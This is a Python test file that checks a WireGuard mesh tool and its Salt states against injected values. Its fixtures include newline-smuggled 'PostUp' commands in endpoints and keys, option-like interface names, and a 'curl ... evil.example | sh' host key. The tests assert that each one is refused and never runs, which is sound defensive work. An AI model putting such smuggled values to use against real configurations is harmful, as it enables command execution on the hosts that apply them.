"""Attacks through values that reach files, command lines and the live interface.

Each attack is tried where it enters: a pull request on a real git repository
(`wgmesh plan`, `wgmesh render`), a config handed to `wgmesh import-config`, or
the pillar and host keys a minion applies with real `salt-call --local` and
wireguard-go in its own namespaces (tests/salt's harness).  Every injected
command would `touch` a marker file: the marker must never exist, and the
refusal must name the offending entry.
"""
from __future__ import annotations

import copy
import json

import pytest
import yaml

from wgmesh_core.keys import generate_private_key, public_key

from tests.conftest import TODAY, assert_clean_failure, example_network_data
from tests.onboard.conftest import make_pillar_repo, wgmesh
from tests.salt.conftest import FAKES, fails, local_host, state_results  # noqa: F401 (fixture)

ZERO_KEY = "A" * 43 + "="
HUB_ENDPOINT = "203.0.113.1:51820"


def new_key() -> tuple[str, str]:
    private = generate_private_key()
    return private, public_key(private)


@pytest.fixture
def marker(tmp_path):
    path = tmp_path / "pwned"
    yield path
    assert not path.exists(), f"an injected command ran: {path} exists"


# --- pull requests: refused by `wgmesh plan`, nothing rendered --------------------------------

def pr(repo, change):
    repo.branch("pr")
    repo.edit_yaml("wgmesh/network.sls", lambda data: change(data["wgmesh"]))
    repo.commit("a pull request")


def developer(repo, name, **entry):
    repo.edit_yaml("wgmesh/developers.sls", lambda data: data["wgmesh"]["developers"].update({name: entry}))


@pytest.mark.parametrize("where, change, why", [
    ("hub.endpoint", lambda net: net["hub"].update(endpoint=HUB_ENDPOINT + "\nPostUp = touch {marker}"),
     "contains whitespace"),
    ("hub.endpoint", lambda net: net["hub"].update(endpoint="203.0.113.1\n:51820"), "contains whitespace"),
    ("hub.endpoint", lambda net: net["hub"].update(endpoint="10.70.0.1:51820"), "inside the VPN network"),
    ("gateways.a.lan", lambda net: net["hub"].update(endpoint="192.168.201.1:51820"), "contains the hub endpoint"),
    ("interface", lambda net: net.update(interface="-x"), "should match pattern"),
    ("gateways.c.lan_interface", lambda net: net["gateways"]["c"].update(lan_interface="--help"),
     "should match pattern"),
    ("gateways.a.lan", lambda net: net["gateways"]["a"].update(lan="8.8.8.0/24", lan_address="8.8.8.8"),
     "not a private range"),
    ("gateways.a.lan", lambda net: net["gateways"]["a"].update(lan="192.168.201.246/31",
                                                                lan_address="192.168.201.247"),
     "no room for hosts"),
])
def test_a_pull_request_with_a_bad_value_is_refused_naming_it(tmp_path, marker, where, change, why):
    repo = make_pillar_repo(tmp_path / "repo")

    def formatted(net):
        change(net)
        net["hub"]["endpoint"] = net["hub"]["endpoint"].format(marker=marker)
    pr(repo, formatted)
    done = wgmesh("plan", repo.path, "--head", "pr", "--target", "main", "--today", TODAY)
    assert_clean_failure(done, 1, f"{where}: ")
    assert why in [line for line in done.stderr.splitlines() if line.startswith(f"{where}: ")][0]
    assert done.stdout == ""
    out = tmp_path / "rendered"
    assert_clean_failure(wgmesh("render", repo.path, "--host", "a", "--out", out), 1, f"{where}: ")
    assert not out.exists()


@pytest.mark.parametrize("key, why", [
    (ZERO_KEY, "the all-zero key"),
    ("CmmeC0yqofMMZhEGHuK5dd2Mxyxe7tA8wSniDWiI5V0=\nPostUp = touch {marker}", "characters long"),
    ("MyeHCD9sVXMXPgyEY79Yif8QskCjqm+SoJqmLXHN1RM=", "same public key as developer f"),
])
def test_a_pull_request_adding_a_bad_developer_key_is_refused(tmp_path, marker, key, why):
    repo = make_pillar_repo(tmp_path / "repo")
    repo.branch("pr")
    developer(repo, "g", address="10.70.0.6", public_key=key.format(marker=marker))
    repo.commit("onboard g")
    done = wgmesh("plan", repo.path, "--head", "pr", "--target", "main", "--today", TODAY)
    assert_clean_failure(done, 1, "developers.g.public_key: ")
    assert why in done.stderr and done.stdout == ""


def test_expires_too_far_ahead_is_refused(tmp_path):
    repo = make_pillar_repo(tmp_path / "repo")
    repo.branch("pr")
    developer(repo, "g", address="10.70.0.6", public_key=new_key()[1], expires="2099-01-01")
    repo.commit("g forever")
    done = wgmesh("plan", repo.path, "--head", "pr", "--target", "main", "--today", TODAY)
    assert_clean_failure(done, 1, "developers.g.expires: 2099-01-01 is")
    assert "max_access_days (366)" in done.stderr


# --- import-config: a config with PostUp is refused, and would really have run -----------

def test_import_config_refuses_postup_which_wg_quick_would_run(tmp_path, marker, local_host):
    """Control first: the very file, given to wg-quick as is (inside a namespace), runs its
    PostUp; through `wgmesh import-config` it is refused, naming the line, and nothing is written."""
    private, public = new_key()
    hub_key = new_key()[1]
    text = (f"[Interface]\n# PrivateKey = <yours>\nAddress = 10.70.0.6/16\n"
            f"PostUp = touch {marker}-control\n\n[Peer]\nPublicKey = {hub_key}\n"
            f"Endpoint = {HUB_ENDPOINT}\nAllowedIPs = 10.70.0.0/16\n")
    key_file = tmp_path / "g.key"
    key_file.write_text(private + "\n")
    key_file.chmod(0o600)             # the developer's own (import-config refuses a key others may read)
    host = local_host("laptop", {})
    control = host.path("/etc/wireguard/ctl0.conf")
    control.write_text(text.replace("# PrivateKey = <yours>", f"PrivateKey = {private}"))
    control.chmod(0o600)
    host.run("wg-quick up ctl0", extra_path=f"{FAKES}:")
    assert (tmp_path / "pwned-control").exists(), "the control did not run PostUp: the test would prove nothing"

    out = tmp_path / "g.conf"
    done = wgmesh("import-config", "-", "--key-file", key_file, "--out", out, "--png", tmp_path / "g.png",
                  input=text)
    assert_clean_failure(done, 2, "line 4: PostUp makes wg-quick run commands")
    assert not out.exists() and not (tmp_path / "g.png").exists()
    assert public not in done.stderr and private not in done.stderr


# --- minions: bad host keys and endpoints never reach a file or the live interface ---------

def network(**overrides):
    net = example_network_data()
    net["hub"]["endpoint"] = HUB_ENDPOINT
    net.update(backend="wgquick", firewall="iptables", **overrides)
    return net


def host_pillar(net, keys):
    return {"wgmesh": net, "wgmesh_host_keys": keys,
            "wgmesh_psk": {peer: new_key()[0] for peer in ("a", "c", "e", "f")}}


def apply(host, *checks):
    out = host.run(host.salt_call("saltutil.sync_all"), host.salt_call("state.apply wgmesh"), *checks,
                   extra_path=f"{FAKES}:")
    return state_results(out[1]), out[2:]


def test_a_gateway_given_a_hub_key_with_a_newline_leaves_the_hub_out(local_host, marker):
    """The hub's key arrives (mine or wgmesh_host_keys) as 'KEY\\nPostUp = touch ...': gateway a
    applies everything else, leaves the hub out naming why, and wg-quick never sees the line."""
    bad = new_key()[1] + f"\nPostUp = touch {marker}"
    host = local_host("a", host_pillar(network(), {"z": bad, "c": new_key()[1]}))
    states, (conf, peers) = apply(host, "cat /etc/wireguard/wg0.conf", "wg show wg0 peers")
    assert all(state["result"] is True for state in states.values()), states
    comment = states["wgmesh-tunnel"]["comment"]
    assert "left out z: its published public key is not a WireGuard key" in comment
    assert "PostUp = touch" not in conf and conf.count("PostUp") == 1      # wgmesh's own private-key line
    assert "[Peer]" not in conf and peers.strip() == ""


def test_a_hub_leaves_out_only_the_gateways_with_bad_keys(local_host, marker):
    """wgmesh_host_keys names 'curl | sh' for a and developer e's key for c: both left out with
    the reason; e and f are peers; nothing else is affected."""
    net = network()
    keys = {"a": f"curl -s https://evil.example/x | sh; touch {marker}", "c": net["developers"]["e"]["public_key"]}
    host = local_host("z", host_pillar(net, keys))
    states, (dump, conf) = apply(host, "wg show wg0 dump", "cat /etc/wireguard/wg0.conf")
    assert all(state["result"] is True for state in states.values()), states
    comment = states["wgmesh-tunnel"]["comment"]
    assert "left out a: its published public key is not a WireGuard key" in comment
    assert "left out c: it published the public key of developers.e" in comment
    live = {line.split("\t")[0] for line in dump.strip().splitlines()[1:]}
    assert live == {net["developers"]["e"]["public_key"], net["developers"]["f"]["public_key"]}
    assert "curl" not in conf and "evil" not in conf


def test_a_zero_key_or_a_developers_key_published_by_a_host_is_left_out(local_host):
    """Without a pin store (masterless) a host key equal to a developer's is the host's fault:
    the pillar is reviewed, the mine is written by the host. (With the master's pins, the key
    pinned first wins: tests/core/test_hostkeys.py.)"""
    net = network()
    f_key = net["developers"]["f"]["public_key"]
    host = local_host("z", host_pillar(net, {"a": f_key, "c": ZERO_KEY}))
    states, (dump,) = apply(host, "wg show wg0 dump")
    comment = states["wgmesh-tunnel"]["comment"]
    assert "left out c: its published public key is not a WireGuard key" in comment and "all-zero" in comment
    assert "left out a: it published the public key of developers.f" in comment
    allowed = {line.split("\t")[0]: line.split("\t")[3] for line in dump.strip().splitlines()[1:]}
    assert allowed == {f_key: "10.70.0.5/32", net["developers"]["e"]["public_key"]: "10.70.0.4/32"}
    assert ZERO_KEY not in dump


def test_an_endpoint_with_a_newline_that_skipped_the_gate_applies_nothing(local_host, marker):
    net = network()
    net["hub"]["endpoint"] = f"{HUB_ENDPOINT}\nPostUp = touch {marker}"
    host = local_host("a", host_pillar(net, {"z": new_key()[1]}))
    out = host.run(host.salt_call("saltutil.sync_all"), fails(host.salt_call("state.apply wgmesh")),
                   "ls /etc/wireguard; ip link show wg0 2>&1 || true", extra_path=f"{FAKES}:")
    assert "hub.endpoint: " in out[1] and "contains whitespace" in out[1]
    assert out[2].split() == ["Device", '"wg0"', "does", "not", "exist."]


# --- revocation is never blocked by a pending peer (real wg, real salt-call) ---------------

def test_revocation_and_deletion_reach_the_hub_while_a_gateway_is_pending(local_host, tmp_path):
    """First apply: a, c, e, f live. Then c's key is gone from the mine (pending), e is revoked
    and f deleted from the pillar, and someone added a stranger by hand: e and f are removed
    (e's key is in the pillar, f's is in the hub's record of the peers it installed), c's old
    peer and the stranger stay (either may be c's). Once c's key is back, the stranger goes."""
    net = network()
    keys = {"a": new_key()[1], "c": new_key()[1]}
    pillar = host_pillar(net, keys)
    host = local_host("z", pillar)
    later = copy.deepcopy(pillar)
    del later["wgmesh_host_keys"]["c"]
    later["wgmesh"]["developers"]["e"]["revoked"] = True
    del later["wgmesh"]["developers"]["f"]
    final = copy.deepcopy(later)
    final["wgmesh_host_keys"]["c"] = keys["c"]
    (tmp_path / "later.sls").write_text(yaml.safe_dump(later))
    (tmp_path / "final.sls").write_text(yaml.safe_dump(final))
    stranger = new_key()[1]
    net_sls = host.dir / "pillar" / "net.sls"
    out = host.run(host.salt_call("saltutil.sync_all"), host.salt_call("state.apply wgmesh"), "wg show wg0 peers",
                   f"wg set wg0 peer {stranger} allowed-ips 10.70.99.99/32",
                   f"cp {tmp_path / 'later.sls'} {net_sls}", host.salt_call("state.apply wgmesh"), "wg show wg0 peers",
                   f"cp {tmp_path / 'final.sls'} {net_sls}", host.salt_call("state.apply wgmesh"), "wg show wg0 peers",
                   extra_path=f"{FAKES}:")
    e_key, f_key = net["developers"]["e"]["public_key"], net["developers"]["f"]["public_key"]
    assert set(out[2].split()) == {keys["a"], keys["c"], e_key, f_key}
    pending = state_results(out[5])["wgmesh-tunnel"]
    assert "waiting for the public key of c" in pending["comment"]
    assert sorted(pending["changes"]["peers"]["removed"]) == sorted([e_key, f_key])
    assert set(out[6].split()) == {keys["a"], keys["c"], stranger}
    assert state_results(out[8])["wgmesh-tunnel"]["changes"]["peers"]["removed"] == [stranger]
    assert set(out[9].split()) == {keys["a"], keys["c"]}


# --- what only the master serves cannot come from the pillar repository ------------------

def test_the_master_drops_keys_and_psks_forged_in_the_pillar_repository(tmp_path, monkeypatch):
    """The wgmesh_secrets ext_pillar, run as Salt runs it (the repository's pillar so far, which
    Salt merges its result into): a forged wgmesh_psk / wgmesh_keys is removed, the hub gets the
    keys pinned from the mine, and a changed key fires wgmesh/key/changed once."""
    import importlib.util
    from tests.conftest import REPO
    spec = importlib.util.spec_from_file_location("wgmesh_secrets_under_test", REPO / "_pillar" / "wgmesh_secrets.py")
    module = importlib.util.module_from_spec(spec)
    spec.loader.exec_module(module)
    z, a, c, forged = (new_key()[1] for _ in range(4))
    mine = {"z": {"wgmesh_public_key": z}, "a": {"wgmesh_public_key": a}, "c": {"wgmesh_public_key": c}}
    events, logged = [], []

    class Log:   # records the module's log lines (salt's deferred log handler would print them at exit)
        def error(self, message, *args):
            logged.append(message % args)
        info = error
    monkeypatch.setattr(module, "log", Log())
    monkeypatch.setattr(module, "_mine_of", mine.get, raising=False)
    monkeypatch.setattr(module, "_fire", lambda tag, data: events.append((tag, data)), raising=False)
    secret_file = str(tmp_path / "wgmesh" / "psk.secret")

    def compile_for(minion):
        repository = {"wgmesh": example_network_data(), "wgmesh_psk": {"e": forged},
                      "wgmesh_keys": {"accepted": {"c": forged}, "refused": {}}}
        served = module.ext_pillar(minion, repository, secret_file=secret_file)
        assert "wgmesh_psk" not in repository and "wgmesh_keys" not in repository
        return served

    served = compile_for("z")
    assert served["wgmesh_keys"] == {"accepted": {"z": z, "a": a, "c": c}, "refused": {}}
    assert forged not in json.dumps(served) and set(served["wgmesh_psk"]) == {"a", "c", "e", "f"}
    assert "wgmesh: ignoring the 'wgmesh_psk' pillar key from the pillar repository (only the master serves it)" \
        in logged
    assert compile_for("r1") == {}                        # a LAN router gets neither keys nor PSKs
    mine["c"] = {"wgmesh_public_key": forged}              # c re-keys (or is taken over)
    for _ in range(2):
        served = compile_for("z")
        assert served["wgmesh_keys"]["accepted"] == {"z": z, "a": a}
        assert f"not its pinned key {c}" in served["wgmesh_keys"]["refused"]["c"]
    assert [(tag, data["host"], data["pinned"]) for tag, data in events] == [("wgmesh/key/changed", "c", c)]
